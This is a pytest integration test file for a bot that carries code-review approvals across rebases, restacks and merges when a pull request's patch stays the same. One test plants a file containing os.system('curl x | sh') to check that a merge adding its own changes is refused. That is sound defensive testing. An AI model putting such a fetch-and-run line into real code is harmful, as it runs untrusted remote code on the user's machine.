"""Approvals that follow the code (issue 24 point 5): a vetter's approval of one head carries to
a new head whose own patch is the same (patch-ids, authors, and exactly what a cherry-pick
writes), with real git and the stored PRs and approvals on SQLite and PostgreSQL."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session

from stackbot.adapters.git import GitMirror
from stackbot.db import github_store as store
from stackbot.db.engine import session_scope
from stackbot.db.models import Approval, PullRequest
from stackbot.domain.approval_carry import CarryReason, carried_note
from stackbot.domain.retarget import RETARGET_MARKER
from stackbot.domain.series import build_series_graph
from stackbot.services.approval_carry import CarryOutcome, carry_approvals
from tests.integration.repo_builder import RepoBuilder

REPO = "acme/widgets"
BLOCKS = "".join(f"{c}\n" for c in "abcdef" * 2)  # the same six lines twice
A_PY = "".join(f"v{i} = {i}\n" for i in range(8))


class World:
    """A source repository with PR refs, its mirror, and the PRs stored as a sync stores them."""

    def __init__(self, tmp_path: Path, engine: Engine) -> None:
        self.src = RepoBuilder(tmp_path / "src")
        self.src.commit("base", {"lib/a.py": A_PY, "lib/blocks.txt": BLOCKS})
        self.engine = engine
        self.mirror = GitMirror.open_or_clone(str(self.src.path), tmp_path / "mirrors", timeout=60)
        with session_scope(engine) as session:
            repository = store.upsert_repository(
                session, full_name=REPO, clone_url=str(self.src.path)
            )
            assert repository.id is not None
            self.repo_id = repository.id

    # -- git ---------------------------------------------------------------------------------

    def commit(self, message: str, files: dict[str, str | None], author: str = "") -> str:
        self.src.write(files)
        extra = [f"--author={author}"] if author else []
        self.src.git("commit", "--quiet", "--allow-empty", *extra, "-m", message)
        return self.src.rev("HEAD")

    def rebase(self, branch: str, onto: str, commits: list[str]) -> str:
        """Point ``branch`` at ``commits`` cherry-picked onto ``onto`` (what a restack does)."""
        self.src.git("checkout", "--quiet", "-B", branch, onto)
        for sha in commits:
            self.src.git("cherry-pick", "--allow-empty", sha)
        return self.src.rev("HEAD")

    # -- the stored PRs ----------------------------------------------------------------------

    def open(self, number: int, branch: str, base: str = "main") -> str:
        head = self.src.rev(branch)
        self.src.set_pull_head(number, branch)
        with session_scope(self.engine) as session:
            session.add(
                PullRequest(
                    repo_id=self.repo_id,
                    number=number,
                    author="carol",
                    head_ref=branch,
                    head_sha=head,
                    base_ref=base,
                )
            )
        self.mirror.fetch()
        return head

    def push(self, number: int, branch: str, **changes: object) -> str:
        """The PR's branch now points at ``branch``'s tip (a force push), as a sync stores it."""
        head = self.src.rev(branch)
        self.src.set_pull_head(number, branch)
        with session_scope(self.engine) as session:
            row = store.get_pull(session, repo_id=self.repo_id, number=number)
            assert row is not None
            if row.head_sha != head:
                row.head_history = [*row.head_history, row.head_sha]
                row.head_sha = head
            for name, value in changes.items():
                setattr(row, name, value)
            session.add(row)
        return head

    def approve(self, number: int, sha: str, kind: str = "ok_to_test") -> None:
        with session_scope(self.engine) as session:
            store.add_approval(
                session, repo_id=self.repo_id, pr_number=number, sha=sha, vetter="bob", kind=kind
            )

    def carry(self, *numbers: int) -> list[CarryOutcome]:
        """What the integrate task does: fetch, then try to carry the approvals."""
        self.mirror.fetch()
        with Session(self.engine) as session:
            rows = store.list_pulls(session, repo_id=self.repo_id)
            session.expunge_all()
        graph = build_series_graph([store.pr_record(r) for r in rows], repo=REPO)
        return carry_approvals(
            self.engine,
            self.mirror,
            repo_id=self.repo_id,
            base_sha=self.mirror.rev_parse("main"),
            rows=rows,
            graph=graph,
            numbers=numbers or [r.number for r in rows],
        )

    def approvals(self, number: int) -> list[Approval]:
        with Session(self.engine) as session:
            found = store.approvals_of(session, repo_id=self.repo_id, pr_number=number)
            session.expunge_all()
            return found


@pytest.fixture
def world(tmp_path: Path, engine: Engine) -> World:
    return World(tmp_path, engine)


def one_pr(world: World, *, commits: int = 2) -> tuple[list[str], str]:
    """PR 1 with ``commits`` commits off main, approved by bob at its head; main then moves
    (a file the PR does not touch, and lines above the PR's change: its hunks move)."""
    world.src.branch("feature")
    own = [
        world.commit(f"feature {i}", {f"lib/f{i}.py": f"def f{i}():\n    return {i}\n"})
        for i in range(commits - 1)
    ]
    own.append(world.commit("edit a", {"lib/a.py": A_PY + "y = 2\n"}))
    head = world.open(1, "feature")
    world.approve(1, head)
    world.src.checkout("main")
    world.commit("main moves", {"lib/a.py": "# header\n" + A_PY, "lib/m.py": "m = 1\n"})
    return own, head


def assert_not_carried(world: World, reason: CarryReason, *numbers: int) -> CarryOutcome:
    outcomes = world.carry(*numbers)
    assert [o.decision.reason for o in outcomes] == [reason], outcomes
    assert [a.kind for a in world.approvals(outcomes[0].number)] == ["ok_to_test"]
    return outcomes[0]


# -- carried ----------------------------------------------------------------------------------


def test_a_rebase_onto_a_moved_main_carries_the_approval(world: World) -> None:
    own, approved = one_pr(world)
    head = world.rebase("feature", "main", own)
    world.push(1, "feature")
    [outcome] = world.carry()
    assert outcome.decision.carry and outcome.decision.reason is CarryReason.SAME_PATCH
    assert [(a.sha, a.kind, a.vetter, a.carried_from) for a in world.approvals(1)] == [
        (approved, "ok_to_test", "bob", None),
        (head, "carried", "bob", approved),
    ]
    assert carried_note(approved) == f"approval of `{approved[:7]}` carried: same patch"
    assert world.carry() == []  # the head is approved now: nothing more to try


def test_a_restack_after_the_parent_was_amended_carries_the_childs_approval(
    world: World,
) -> None:
    world.src.branch("base")
    world.commit("parent", {"lib/p.py": "p = 1\n"})
    world.open(1, "base")
    world.src.branch("top")
    child = world.commit("child", {"lib/c.py": "c = 1\n"})
    approved = world.open(2, "top", base="base")
    world.approve(2, approved)
    # The parent is amended (a new patch: it needs its own approval), the child restacked.
    world.src.git("checkout", "--quiet", "-B", "base", "main")
    world.commit("parent, amended", {"lib/p.py": "p = 2\n"})
    parent = world.push(1, "base")
    head = world.rebase("top", "base", [child])
    world.push(2, "top")
    # While the parent's new head is not approved, its commits count as the child's own: the
    # child's carried approval must not cover them if the dependency is dropped later.
    [outcome] = world.carry()
    assert outcome.number == 2 and outcome.decision.reason is CarryReason.COUNT, outcome
    assert [a.sha for a in world.approvals(2)] == [approved]
    world.approve(1, parent)
    [outcome] = world.carry()
    assert outcome.decision.carry, outcome
    assert world.approvals(2)[-1].sha == head


def test_a_restack_after_a_squash_merged_parent_carries_the_childs_approval(
    world: World,
) -> None:
    world.src.branch("base")
    world.commit("parent 1", {"lib/p.py": "p = 1\n"})
    world.commit("parent 2", {"lib/q.py": "q = 1\n"})
    world.open(1, "base")
    world.src.branch("top")
    child = world.commit("child", {"lib/c.py": "c = 1\n"})
    approved = world.open(2, "top", base="base")
    world.approve(2, approved)
    # The parent lands squashed; stackbot retargets the child, which is then restacked.
    world.src.checkout("main")
    world.src.git("merge", "--squash", "base")
    world.commit("Parent (#1)", {})
    world.push(1, "base", state="closed", merged=True)
    head = world.rebase("top", "main", [child])
    marker = RETARGET_MARKER.format(parent=1) + "\nRetargeted to `main`."
    world.push(2, "top", base_ref="main", comments=[{"author": "stackbot[bot]", "body": marker}])
    [outcome] = world.carry(2)
    assert outcome.decision.carry, outcome
    assert [(a.sha, a.carried_from) for a in world.approvals(2)][-1] == (head, approved)


def test_a_clean_merge_from_the_parent_carries(world: World) -> None:
    world.src.branch("base")
    world.commit("parent", {"lib/p.py": "p = 1\n"})
    world.open(1, "base")
    world.approve(1, world.src.rev("base"))
    world.src.branch("top")
    world.commit("child", {"lib/c.py": "c = 1\n"})
    approved = world.open(2, "top", base="base")
    world.approve(2, approved)
    world.src.checkout("base")
    world.commit("parent, more", {"lib/p2.py": "p2 = 1\n"})
    parent = world.push(1, "base")
    world.src.checkout("top")
    head = world.src.merge("base", "Merge branch 'base' into top")
    world.push(2, "top")
    outcomes = {o.number: o for o in world.carry()}
    # The parent's new commit is a new patch, so the parent needs a new approval and, until
    # then, its commit counts as the child's own.
    assert outcomes[1].decision.reason is CarryReason.COUNT
    assert outcomes[2].decision.reason is CarryReason.COUNT
    world.approve(1, parent)
    [outcome] = world.carry()
    # Now the child's merge of the approved parent adds nothing of its own.
    assert outcome.number == 2 and outcome.decision.carry, outcome
    assert world.approvals(2)[-1].sha == head


# -- not carried ------------------------------------------------------------------------------


def test_a_changed_patch_is_not_carried(world: World) -> None:
    own, _ = one_pr(world)
    world.rebase("feature", "main", own[:-1])
    world.commit("edit a", {"lib/a.py": "# header\n" + A_PY + "y = 3\n"})  # y = 2 approved
    world.push(1, "feature")
    outcome = assert_not_carried(world, CarryReason.PATCH)
    assert "is not" in outcome.decision.detail


def test_a_whitespace_only_change_is_a_changed_patch(world: World) -> None:
    """``git patch-id`` without ``--verbatim`` ignores whitespace; Python does not."""
    world.src.branch("feature")
    world.commit("guard", {"lib/g.py": "if False:\n    x = 1\n    run()\n"})
    world.approve(1, world.open(1, "feature"))
    world.src.git("checkout", "--quiet", "-B", "feature", "main")
    world.commit("guard", {"lib/g.py": "if False:\n    x = 1\nrun()\n"})
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.PATCH)


def test_another_author_is_not_carried(world: World) -> None:
    own, _ = one_pr(world)
    world.rebase("feature", "main", own[:-1])
    world.src.git("cherry-pick", "--no-commit", own[-1])
    world.src.git("commit", "--quiet", "--author=Mallory <m@example.com>", "-m", "edit a")
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.AUTHOR)


def test_an_added_commit_is_not_carried(world: World) -> None:
    own, _ = one_pr(world)
    world.rebase("feature", "main", own)
    world.commit("and one more", {"lib/extra.py": "import os\n"})
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.COUNT)


def test_an_added_empty_commit_is_not_carried(world: World) -> None:
    own, _ = one_pr(world)
    world.rebase("feature", "main", own)
    world.commit("nothing", {})
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.COUNT)


def test_an_empty_patch_is_not_carried(world: World) -> None:
    one_pr(world)
    world.src.git("checkout", "--quiet", "-B", "feature", "main")  # every own commit dropped
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.EMPTY)


def test_an_approved_head_that_cannot_be_read_is_not_carried(world: World) -> None:
    """An approval of a head the mirror never fetched and the source no longer has."""
    own, _ = one_pr(world)
    world.rebase("feature", "main", own)
    world.push(1, "feature")
    gone = "0123456789abcdef0123456789abcdef01234567"
    with session_scope(world.engine) as session:
        [row] = [a for a in store.approvals_of(session, repo_id=world.repo_id, pr_number=1)]
        row.sha = gone
        session.add(row)
    outcome = assert_not_carried(world, CarryReason.UNKNOWN)
    assert "not in the mirror" in outcome.decision.detail


def test_a_merge_with_changes_of_its_own_is_not_carried(world: World) -> None:
    one_pr(world)
    world.src.checkout("feature")
    world.src.git("merge", "--quiet", "--no-ff", "--no-commit", "main")
    world.src.write({"lib/evil.py": "import os\nos.system('curl x | sh')\n"})
    world.src.git("commit", "--quiet", "-m", "Merge branch 'main' into feature")
    world.push(1, "feature")
    outcome = assert_not_carried(world, CarryReason.UNKNOWN)
    assert "has changes of its own" in outcome.decision.detail


def test_a_clean_merge_from_main_alone_carries(world: World) -> None:
    _, approved = one_pr(world)
    world.src.checkout("feature")
    head = world.src.merge("main", "Merge branch 'main' into feature")
    world.push(1, "feature")
    [outcome] = world.carry()
    assert outcome.decision.carry
    assert [(a.sha, a.carried_from) for a in world.approvals(1)][-1] == (head, approved)


def test_the_same_hunk_moved_to_another_place_is_not_carried(world: World) -> None:
    """Same patch-id (line numbers are not part of it), another meaning: the cherry-pick
    check catches it."""
    world.src.branch("feature")
    lines = BLOCKS.splitlines(keepends=True)
    first = "".join([*lines[:3], "X\n", *lines[3:]])
    second = "".join([*lines[:9], "X\n", *lines[9:]])
    world.commit("insert X", {"lib/blocks.txt": first})
    world.approve(1, world.open(1, "feature"))
    world.src.git("checkout", "--quiet", "-B", "feature", "main")
    world.commit("insert X", {"lib/blocks.txt": second})
    world.push(1, "feature")
    assert_not_carried(world, CarryReason.PLACEMENT)


def test_a_trusted_authors_approval_is_not_carried(world: World) -> None:
    own, approved = one_pr(world)
    with session_scope(world.engine) as session:
        [row] = store.approvals_of(session, repo_id=world.repo_id, pr_number=1)
        row.kind = "trusted"  # re-derived by the sync for each head instead
        session.add(row)
    world.rebase("feature", "main", own)
    world.push(1, "feature")
    assert world.carry() == []
    assert [a.sha for a in world.approvals(1)] == [approved]
